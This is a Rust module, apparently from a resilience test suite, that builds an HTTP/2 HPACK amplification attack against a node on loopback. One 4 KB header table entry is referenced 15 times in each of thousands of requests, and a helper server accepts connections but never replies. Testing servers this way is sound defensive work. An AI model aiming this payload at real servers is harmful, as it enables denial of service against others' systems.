//! Heads that are large where they are decoded, and small on the wire (RFC 7541, 6.1).

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::thread;

use super::{Attack, Effort, Party, Place, Stage};
use crate::frames::{END_HEADERS, END_STREAM, HEADERS, HELLO, SETTINGS, frame, request};
use crate::origins;
use crate::raw::Raw;

/// Connections of the attacker.
const CONNECTIONS: usize = 6;

/// Streams of each.
const STREAMS: u32 = 1_000;

/// Bytes of the value that fills a table of 4096 (RFC 7541, 4.1: 32 bytes and the name count too).
const VALUE: usize = 3_996;

/// References of a head to that value: 62 KiB by the count of RFC 7541.
const REFERENCES: usize = 15;

/// One entry of the table, referred to by thousands of heads.
pub(super) const INDEXED: Attack = Attack {
    name: "indexed-heads",
    by: Party::Stranger,
    place: Place::Loopback,
    summary: "6 connections of 1,000 requests, each 15 references to one field of 4 kB",
    prepare,
    run,
};

fn prepare() -> Stage {
    let silent = origins::tcp_silent();
    let route = format!("{{ terminate: \"{}\" }}", silent.address());
    Stage::start("web: { http: 127.0.0.1:0 }", &route, "").keeping(silent)
}

fn run(stage: &Stage) -> Effort {
    let mut effort = Effort::default();
    let bytes = repeated("origin.test", b"").len() as u64;
    for _ in 0..CONNECTIONS {
        effort.hold(repeating(stage.node.address("web"), "origin.test", b""));
        effort.bytes += bytes;
        effort.attempts += u64::from(STREAMS);
    }

    effort
}

/// A connection that asks this origin for 1000 heads of 60 KiB, with this field line, and acknowledges nothing.
pub fn repeating(address: SocketAddr, origin: &str, line: &[u8]) -> Raw {
    let mut raw = Raw::connect(address);
    // The node may end the connection at any time.
    raw.send_if_open(repeated(origin, line));
    raw
}

/// A first request that fills the table, and further ones that refer to its entry 15 times: index 62 is the newest (RFC 7541, 2.3.3).
fn repeated(origin: &str, line: &[u8]) -> Vec<u8> {
    let asked = [request("GET", origin, "/"), line.to_vec()].concat();
    let mut bytes = HELLO.to_vec();
    for number in 0..STREAMS {
        let more = if number == 0 {
            entry()
        } else {
            vec![0xbe; REFERENCES]
        };
        let block = [&asked[..], &more].concat();
        let stream = 2 * number + 1;
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
    }
    bytes
}

/// A field line that becomes the only entry of a table of 4096 bytes, and fills it (RFC 7541, 6.2.1). Its length is 127 and the rest in two
/// groups of seven bits (RFC 7541, 5.1).
pub fn entry() -> Vec<u8> {
    [b"\x40\x05x-pad\x7f\x9d\x1e".as_slice(), &[b'x'; VALUE]].concat()
}

/// A server that takes every exchange and answers none, over HTTP/1.1 or HTTP/2; there, it takes 64 KiB of contents on a connection.
///
/// # Panics
/// When it has no port.
pub fn silent() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    thread::spawn(move || {
        while let Ok((mut stream, _)) = listener.accept() {
            thread::spawn(move || {
                let mut piece = vec![0; 64 * 1024];
                let mut is_first = true;
                while let Ok(length @ 1..) = stream.read(&mut piece) {
                    if std::mem::take(&mut is_first) && piece[..length].starts_with(b"PRI") {
                        drop(stream.write_all(&frame(SETTINGS, 0, 0, b"")));
                    }
                }
            });
        }
    });
    address
}
